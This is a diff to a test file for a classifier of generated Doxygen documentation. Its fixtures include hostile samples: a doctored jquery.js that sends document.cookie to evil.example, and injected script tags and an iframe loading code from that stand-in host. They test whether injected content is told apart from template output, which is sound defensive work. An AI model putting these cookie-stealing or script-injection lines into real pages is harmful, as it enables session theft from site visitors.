@@ -230,26 +230,41 @@ describe('docsClassifier', () => {
         'doc/api/c.html': page('', "<script>var s=document.createElement('script');s.src='//evil.example/x.js';</script>"),
         'doc/api/d.html': page('<iframe src="https&#58;//evil.example/"></iframe>'),
         'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'),
-      }),
+        // Doxygen's jquery.js with a line appended; a host named in a comment only is no call
+        'doc/api/jquery.js': '/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n!function(e){}(window);\nfetch("https://evil.example/c?"+document.cookie);\n',
+        'doc/api/menu.js': "// see https://www.doxygen.org/\nfunction initMenu(){var s=document.createElement('script');s.src='//evil.example/x.js';}\n",
+        // a host the templates name, beside one they do not
+        'doc/api/f.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script src="https://evil.example/x.js"></script>'),
+      }, { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n' }),
     ).toEqual({
+      'doc/api/jquery.js': undefined,
+      'doc/api/menu.js': undefined,
+      'doc/api/f.html': undefined,
       'doc/api/index.html': undefined,
       'doc/api/a.html': undefined,
       'doc/api/b.html': undefined,
       'doc/api/c.html': undefined,
       'doc/api/d.html': undefined,
-      'doc/api/e.html': undefined,
+      'doc/api/e.html': 'html<-doxygen/Doxyfile',
     });
     expect(
       await run(
         {
           'doc/api/index.html': page('<link href="https://fonts.googleapis.com/css?family=Lato" rel="stylesheet"><script src="jquery.js"></script>', '<img src="https://lxml.de/logo.png"><a href="https://www.doxygen.org/">doxygen</a>'),
           'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'),
+          'doc/api/jquery.js': '/*! jQuery v3.6.0 | (c) OpenJS Foundation | https://jquery.org/license */\n// https://bugs.jquery.com/ticket/1\nvar svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");\n',
         },
         { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n$projectname\n' },
       ),
     ).toEqual({
       'doc/api/index.html': 'html<-doxygen/Doxyfile',
       'doc/api/e.html': 'html<-doxygen/Doxyfile',
+      'doc/api/jquery.js': 'html<-doxygen/Doxyfile',
+    });
+    // without the template naming it, the analytics script is unexplained too
+    expect(await run({ 'doc/api/index.html': '<html></html>\n', 'doc/api/e.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>') })).toEqual({
+      'doc/api/index.html': 'html<-doxygen/Doxyfile',
+      'doc/api/e.html': undefined,
     });
   });
 
